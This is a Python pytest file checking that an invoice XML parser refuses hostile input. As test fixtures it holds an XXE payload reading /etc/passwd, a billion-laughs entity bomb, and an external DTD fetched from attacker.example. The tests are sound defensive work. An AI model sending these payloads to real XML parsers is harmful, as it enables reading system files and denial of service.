"""Hostile XML is refused with a clear reason, before anything else reads it."""

from __future__ import annotations

import pytest

import validators
from schemas.errors import XmlInputError
from schemas.xml_input import parse_xml

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&xxe;</Invoice>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (XXE, "dtd-forbidden"),
        (BILLION_LAUGHS, "dtd-forbidden"),
        (EXTERNAL_DTD, "dtd-forbidden"),
        (
            XXE.decode()
            .replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
            .encode("utf-16"),
            "dtd-forbidden",
        ),
        (b"<Invoice><unclosed></Invoice>", "not-well-formed"),
        (b"   ", "empty"),
    ],
    ids=["xxe", "billion-laughs", "external-dtd", "utf16-xxe", "not-well-formed", "empty"],
)
def test_hostile_or_broken_xml_is_refused_with_its_reason(document, reason):
    with pytest.raises(XmlInputError) as caught:
        parse_xml(document)
    assert caught.value.reason == reason
    assert caught.value.problems[0].rule == f"xml.{reason}"
    # validate() refuses it the same way; nothing downstream ever sees it.
    with pytest.raises(XmlInputError):
        validators.validate(document)


def test_a_50_mb_document_is_refused_before_parsing():
    big = b"<Invoice>" + b"<x>1</x>" * (50 * 1024 * 1024 // 8) + b"</Invoice>"
    assert len(big) > 50 * 1024 * 1024
    with pytest.raises(XmlInputError) as caught:
        parse_xml(big)
    assert caught.value.reason == "too-large"
    assert "limit" in caught.value.message


def test_xxe_content_never_reaches_the_tree():
    with pytest.raises(XmlInputError) as caught:
        parse_xml(XXE)
    assert "root:" not in str(caught.value)


def test_plain_documents_parse():
    tree = parse_xml('<a xmlns="urn:x"><b>ä</b></a>'.encode())
    assert tree.getroot().tag == "{urn:x}a"
